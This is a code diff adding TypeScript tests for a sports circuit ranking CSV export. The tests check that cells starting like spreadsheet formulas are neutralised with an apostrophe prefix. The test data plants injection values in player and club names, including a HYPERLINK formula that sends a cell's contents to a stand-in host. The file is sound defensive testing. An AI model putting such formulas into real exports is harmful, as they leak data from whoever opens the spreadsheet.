@@ -7,6 +7,7 @@ import { DISCIPLINE_IDS, SECTOR_IDS } from '../../contract/constants.ts'
 import { currentSeason, todayInItaly } from '../../contract/dates.ts'
 import { EXPORT_MESSAGES } from '../../contract/circuiti.ts'
 import { classificaCircuitoPath } from '../../contract/stampe.ts'
+import { persons } from '../../server/db/schema/core.ts'
 import {
   circuitRankings,
   circuits,
@@ -16,6 +17,7 @@ import {
   tournamentPoints,
   tournaments,
 } from '../../server/db/schema/domain.ts'
+import { csvFile } from '../../server/documents/csv.ts'
 import { createRepositories } from '../../server/repositories/index.ts'
 import { buildTestApp, call, createAccount, testDatabase, tokenFor } from '../support/server.ts'
 import { club, ensureReference, player, uniqueLetters } from './home-news-fixtures.ts'
@@ -28,6 +30,31 @@ beforeAll(async () => {
 afterAll(() => app.close())
 
 const season = currentSeason()
+
+/** Reads a CSV with semicolons as a spreadsheet would: quoted cells, doubled quotes, line ends inside quotes. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  let cell = ''
+  let quoted = false
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"'
+      i++
+    } else if (c === '"') {
+      quoted = !quoted
+    } else if (!quoted && (c === ';' || c === '\n')) {
+      rows.at(-1)!.push(cell.replace(/\r$/, ''))
+      cell = ''
+      if (c === '\n') rows.push([])
+    } else {
+      cell += c
+    }
+  }
+  if (cell !== '') rows.at(-1)!.push(cell)
+  return rows.filter((row) => row.length > 0)
+}
+
 type Row = Record<string, unknown>
 
 function day(days: number): string {
@@ -379,6 +406,70 @@ describe('the circuit ranking as PDF and CSV', () => {
       .from(circuitRankings)
       .where(and(eq(circuitRankings.circuitId, circuit.id)))
     expect(removed[0]!.n).toBe(5)
+  })
+
+  it('writes no cell a spreadsheet would run: text from = + - @, tab or CR gets an apostrophe, numbers stay numbers', async () => {
+    const { db } = await testDatabase()
+    const { tag, circuit, people } = await circuitFixture()
+    const formula = '=HYPERLINK("https://esempio.invalid/?d="&A1;"Premio")'
+    const names: [keyof typeof people, string][] = [
+      ['anna', formula],
+      ['bea', '@SOMMA(1;2)'],
+      ['carla', '-2+3'],
+      ['dora', '+39 333 1234567'],
+    ]
+    for (const [who, nome] of names)
+      await db.update(persons).set({ nome }).where(eq(persons.id, people[who].id))
+    // A tab or a carriage return first: in the club's name (a person's full name is trimmed).
+    const clubs: [keyof typeof people, string][] = [
+      ['carla', `\r=1+1 ${tag}`],
+      ['elsa', `\t=SOMMA(A1:A9) ${tag}`],
+    ]
+    for (const [who, nome] of clubs) {
+      const { id } = await club(nome, [DISCIPLINE_IDS.BEACH_TENNIS])
+      await db.update(persons).set({ clubId: id }).where(eq(persons.id, people[who].id))
+    }
+    await createRepositories(db).circuits.recomputeStandings(circuit.id)
+    const exporter = await tokenFor(await createAccount({ account: { puoEsportareClassifiche: true } }))
+    const csv = await app.inject({
+      method: 'GET',
+      url: classificaCircuitoPath(circuit.id, 'csv'),
+      headers: { authorization: `Bearer ${exporter}` },
+    })
+    expect(csv.statusCode).toBe(200)
+    const [header, ...rows] = readCsv(csv.body.replace(/^\uFEFF/, ''))
+    expect(header).toEqual(['Posizione', 'Giocatore', 'Circolo', 'Punti', 'Tappe'])
+    const byName = new Map(rows.map((row) => [row[1]!, row]))
+    for (const [, nome] of names) {
+      const row = byName.get(`'${nome} Rossi ${tag}`)
+      expect(row).toBeDefined()
+      // Position, points and stages are numbers, written as numbers.
+      expect(row!.filter((_, i) => i !== 1 && i !== 2).every((cell) => /^\d+$/.test(cell))).toBe(true)
+    }
+    expect(byName.get(`'-2+3 Rossi ${tag}`)![2]).toBe(`'\r=1+1 ${tag}`)
+    expect(byName.get(`Elsa Rossi ${tag}`)![2]).toBe(`'\t=SOMMA(A1:A9) ${tag}`)
+    // No cell at all starts like a formula.
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+  })
+
+  it('keeps a negative number a number and prefixes the same characters as text (server/documents/csv.ts)', () => {
+    expect(
+      readCsv(
+        csvFile(
+          ['Saldo', 'Nota'],
+          [
+            [-3, '-3'],
+            [2.5, '=1'],
+            [null, '@a'],
+          ],
+        ).slice(1),
+      ),
+    ).toEqual([
+      ['Saldo', 'Nota'],
+      ['-3', "'-3"],
+      ['2.5', "'=1"],
+      ['', "'@a"],
+    ])
   })
 
   it('refuses the CSV export to a visitor (401) and to an account without puo_esportare_classifiche (403)', async () => {
